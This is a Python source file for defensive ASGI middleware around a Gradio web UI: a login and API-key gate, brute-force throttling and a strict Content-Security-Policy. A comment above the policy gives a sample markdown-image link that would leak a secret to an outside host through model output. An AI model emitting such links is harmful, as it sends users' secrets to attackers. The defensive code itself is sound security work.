"""HTTP protections around the web UI: one gate for every route, throttling, and a CSP.

They are one ASGI middleware on the FastAPI app Gradio builds, so they hold for every route,
Gradio's own included (its queue, uploads, files, cancel, reset, /openapi.json), whatever the
page or a document asks for. When a login or an API key is set, a request passes only with a
session from the login form or `Authorization: Bearer KEY`; the login page's own files are open.
"""

from __future__ import annotations

import json
import math
import secrets
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from pydantic import SecretStr
from starlette.requests import Request

# The page may load and connect to this server only. Images, media and fonts from elsewhere are
# refused, so a document or an answer cannot make the browser report to an outside host (an
# `![](http://host/?q=secret)` in model output would otherwise leak the secret). Each allowance
# beyond 'self' is one Gradio 6's page needs, found by removing it in Chromium: its config and
# start-up code are inline scripts and it sets inline styles ('unsafe-inline'), it runs the `js=`
# hook and its HTML templates through eval ('unsafe-eval'), and its icons are data: images.
CONTENT_SECURITY_POLICY = "; ".join(
    [
        "default-src 'self'",
        "script-src 'self' 'unsafe-inline' 'unsafe-eval'",
        "style-src 'self' 'unsafe-inline'",
        "img-src 'self' data: blob:",
        "media-src 'self'",
        "font-src 'self'",
        "connect-src 'self'",
        "worker-src 'self' blob:",
        "frame-src 'self'",
        "object-src 'none'",
        "base-uri 'self'",
        "form-action 'self'",
        "frame-ancestors 'self'",
    ]
)

# Wrong credentials allowed before a wait, how long the first wait lasts, and the longest wait:
# each further wrong one doubles the next wait.
LOGIN_ATTEMPTS = 5
LOGIN_COOLDOWN = 30.0
LOGIN_COOLDOWN_MAX = 900.0
FORGET_AFTER = 3600.0  # a counter quiet this long starts afresh
MAX_COUNTS = 100_000  # counts kept at most (about 20 MB)
_LOGIN_PATHS = frozenset({"/login", "/login/"})
# What the login page needs before anyone has logged in: the page, its script, style and config.
_OPEN_PATHS = frozenset(
    {"/", "/login", "/login/", "/logout", "/config", "/config/", "/favicon.ico", "/theme.css"}
    | {"/manifest.json", "/login_check", "/login_check/", "/gradio_api/startup-events"}
)
_OPEN_PREFIXES = ("/assets/", "/static/", "/gradio_api/static/", "/svelte/", "/custom_component/")
_MAX_LOGIN_BODY = 64 * 1024
# Where throttles read the time, unless given a clock: tests replace it to step time.
CLOCK: Callable[[], float] = time.monotonic


@dataclass
class _Count:
    failures: int = 0
    until: float = 0.0  # wrong credentials are refused until this time (on the clock)
    last: float = 0.0


class LoginThrottle:
    """Counts wrong credentials per client address and per credential, with waits that double.

    A right credential is always let through, even while its address or its user name waits: a
    script guessing from the same address (or a proxy's) cannot lock out the real user. The clock
    is injectable, so tests step time instead of sleeping.
    """

    def __init__(self, clock: Callable[[], float] | None = None) -> None:
        self.clock = clock or CLOCK
        self._counts: dict[tuple[str, str], _Count] = {}
        self._sweep_at = 1000

    def waiting(self, address: str, credential: str) -> float:
        """Seconds the address, or the credential, must still wait; 0 when neither waits."""
        now = self.clock()
        counts = (self._counts.get(("address", address)), self._counts.get(("user", credential)))
        return max((c.until - now for c in counts if c and c.until > now), default=0.0)

    def failed(self, address: str, credential: str) -> float:
        """Count one wrong credential; the seconds left of a wait it came during (0: none).

        The wrong credential that reaches the limit is still answered as wrong; it starts the
        wait, which each further wrong one made after a wait doubles.
        """
        now = self.clock()
        self._forget(now)
        wait = self.waiting(address, credential)
        for key in (("address", address), ("user", credential)):
            count = self._counts.setdefault(key, _Count())
            if count.until < now and now - count.last > FORGET_AFTER:
                count.failures = 0  # quiet long enough: it starts afresh
            count.failures += 1
            count.last = now
            if count.failures >= LOGIN_ATTEMPTS:
                delay = LOGIN_COOLDOWN * 2 ** (count.failures - LOGIN_ATTEMPTS)
                count.until = max(count.until, now + min(delay, LOGIN_COOLDOWN_MAX))
        return wait

    def _forget(self, now: float) -> None:
        # A sweep reads every count: it runs when their number has doubled since the last one.
        if len(self._counts) < min(self._sweep_at, MAX_COUNTS + 1):
            return
        for key, count in list(self._counts.items()):
            if count.until < now and now - count.last > FORGET_AFTER:
                del self._counts[key]
        if len(self._counts) > MAX_COUNTS:
            # Made-up user names each open a count: past the bound, the oldest that do not
            # wait go first, so memory stays bounded and no wait in force is forgotten.
            idle = sorted((c.last, k) for k, c in self._counts.items() if c.until < now)
            for _, key in idle[: len(self._counts) - MAX_COUNTS]:
                del self._counts[key]
        self._sweep_at = max(1000, 2 * len(self._counts))


@dataclass
class Gate:
    """Who may use the server: the login (user, password), the API key, or nobody is asked."""

    login: tuple[str, str] | None = None
    key: SecretStr | None = None
    throttle: LoginThrottle = field(default_factory=LoginThrottle)
    # The session a request with the right key is given, so Gradio's own checks let it in too.
    key_session: str = field(default_factory=lambda: secrets.token_urlsafe(32), repr=False)

    @property
    def closed(self) -> bool:
        """True when a login or a key is set: then every route but the login page asks for it."""
        return self.login is not None or self.key is not None

    def right_login(self, user: str, password: str) -> bool:
        """Whether the login form's user and password open the gate.

        Without a login, the API key is the password (any user name): the web UI stays usable
        in a browser, and the key still guards it.
        """
        if self.login is not None:
            same_user = secrets.compare_digest(user.encode(), self.login[0].encode())
            same_password = secrets.compare_digest(password.encode(), self.login[1].encode())
            return same_user and same_password
        return self.right_key(password)

    def right_key(self, sent: str | None) -> bool:
        """Whether `sent` is the API key (False when none is set)."""
        if self.key is None or sent is None:
            return False
        return secrets.compare_digest(sent.encode(), self.key.get_secret_value().encode())


def bearer(header: str) -> str | None:
    """The key of an `Authorization: Bearer KEY` header, None for another header or none."""
    scheme, _, value = header.partition(" ")
    return value.strip() or None if scheme.lower() == "bearer" else None


class Guard:
    """ASGI middleware: the gate and its throttle on every route, the CSP on every response."""

    def __init__(self, app: Any, gate: Gate | None = None) -> None:
        self.app = app
        self.gate = gate or Gate()

    async def __call__(self, scope: dict, receive: Any, send: Any) -> None:
        if scope["type"] not in ("http", "websocket"):
            await self.app(scope, receive, send)
            return
        gate, path = self.gate, scope.get("path", "")
        address = (scope.get("client") or ("unknown", 0))[0]
        login = scope["type"] == "http" and scope["method"] == "POST" and path in _LOGIN_PATHS
        if gate.closed and login:
            receive = await self._login(scope, receive, send, address)
            if receive is None:
                return
        elif gate.closed and not path.startswith("/v1/"):
            # /v1 checks the key itself, answering in the OpenAI protocol's error shape.
            refusal = self._refusal(scope, address)
            if refusal is not None and not _open(scope):
                await _deny(scope, send, *refusal)
                return
        await self.app(scope, receive, _with_policy(send))

    async def _login(self, scope: dict, receive: Any, send: Any, address: str) -> Any:
        """Check a login before Gradio does; None when it was refused here, else a replay."""
        body, more = b"", True
        while more:
            message = await receive()
            body += message.get("body", b"")
            more = message.get("more_body", False) and len(body) <= _MAX_LOGIN_BODY
        user, password = await _credentials(scope, body)
        gate = self.gate
        if not gate.right_login(user, password):
            wait = gate.throttle.failed(address, f"login:{user}")
            if wait:
                detail = (
                    f"Too many wrong logins from this address or for this user: wait "
                    f"{math.ceil(wait)} s, then try again with the right user name and password."
                )
                await _deny(scope, send, 429, detail, wait)
                return None
        replayed = False

        async def replay() -> dict:
            nonlocal replayed
            if replayed:
                return await receive()
            replayed = True
            return {"type": "http.request", "body": body, "more_body": False}

        return replay

    def _refusal(self, scope: dict, address: str) -> tuple[int, str, float] | None:
        """None when the request carries the login's session or the key, else why not."""
        headers = dict(scope.get("headers") or [])
        sent = bearer(headers.get(b"authorization", b"").decode("latin-1"))
        if sent is not None:
            if self.gate.right_key(sent):
                _as_session(scope, self.gate)
                return None
            wait = self.gate.throttle.failed(address, "key")
            if wait:
                detail = (
                    f"Too many wrong keys from this address: wait {math.ceil(wait)} s, then try "
                    "again with the right key."
                )
                return 429, detail, wait
            return 401, "The key is wrong: send the key this server was started with.", 0.0
        if _session(scope, headers) is not None:
            return None
        ask = "log in on the page first" + (
            ", or send 'Authorization: Bearer KEY'" if self.gate.key is not None else ""
        )
        return 401, f"This server asks for a login: {ask}.", 0.0


async def _credentials(scope: dict, body: bytes) -> tuple[str, str]:
    """The user name and password of a login form, urlencoded or multipart as browsers send."""

    async def once() -> dict:
        return {"type": "http.request", "body": body, "more_body": False}

    try:
        form = await Request(scope, once).form()
    except Exception:  # a malformed body: Gradio refuses it too
        return "", ""
    user, password = form.get("username"), form.get("password")
    return (user if isinstance(user, str) else ""), (password if isinstance(password, str) else "")


def _open(scope: dict) -> bool:
    """Whether the path is part of the login page, open before anyone logs in."""
    path = scope.get("path", "")
    if scope["type"] != "http" or scope["method"] not in ("GET", "HEAD"):
        return False
    return path in _OPEN_PATHS or path.startswith(_OPEN_PREFIXES)


def _as_session(scope: dict, gate: Gate) -> None:
    """Let a request carrying the right key through Gradio's own login check as a session.

    Gradio knows only its login cookie; `gradio_client` and scripts send the key instead.
    """
    app = scope.get("app")
    tokens = getattr(app, "tokens", None)
    if tokens is None:
        return
    tokens[gate.key_session] = "api-key"
    cookie = f"access-token-{getattr(app, 'cookie_id', '')}={gate.key_session}".encode()
    others = [(k, v) for k, v in scope.get("headers") or [] if k != b"cookie"]
    sent = b"; ".join(v for k, v in scope.get("headers") or [] if k == b"cookie")
    scope["headers"] = [*others, (b"cookie", b"; ".join(c for c in (sent, cookie) if c))]


def _session(scope: dict, headers: dict[bytes, bytes]) -> str | None:
    """The user of the Gradio login session whose cookie the request carries, if any."""
    app = scope.get("app")
    tokens = getattr(app, "tokens", None) or {}
    cookie_id = getattr(app, "cookie_id", "")
    cookies: dict[str, str] = {}
    for part in headers.get(b"cookie", b"").decode("latin-1").split(";"):
        name, _, value = part.strip().partition("=")
        cookies[name] = value
    for name in (f"access-token-{cookie_id}", f"access-token-unsecure-{cookie_id}"):
        if cookies.get(name) in tokens:
            return tokens[cookies[name]]
    return None


def _with_policy(send: Any) -> Any:
    async def send_with_policy(message: dict) -> None:
        if message["type"] == "http.response.start":
            headers = [
                (k, v)
                for k, v in message.get("headers", [])
                if k.lower() != b"content-security-policy"
            ]
            headers.append((b"content-security-policy", CONTENT_SECURITY_POLICY.encode()))
            message = {**message, "headers": headers}
        await send(message)

    return send_with_policy


async def _deny(scope: dict, send: Any, status: int, detail: str, wait: float) -> None:
    if scope["type"] == "websocket":
        await send({"type": "websocket.close", "code": 1008})
        return
    body = json.dumps({"detail": detail}).encode()
    headers = [
        (b"content-type", b"application/json"),
        (b"content-length", str(len(body)).encode()),
        (b"content-security-policy", CONTENT_SECURITY_POLICY.encode()),
    ]
    if wait:
        headers.append((b"retry-after", str(math.ceil(wait)).encode()))
    await send({"type": "http.response.start", "status": status, "headers": headers})
    await send({"type": "http.response.body", "body": body})
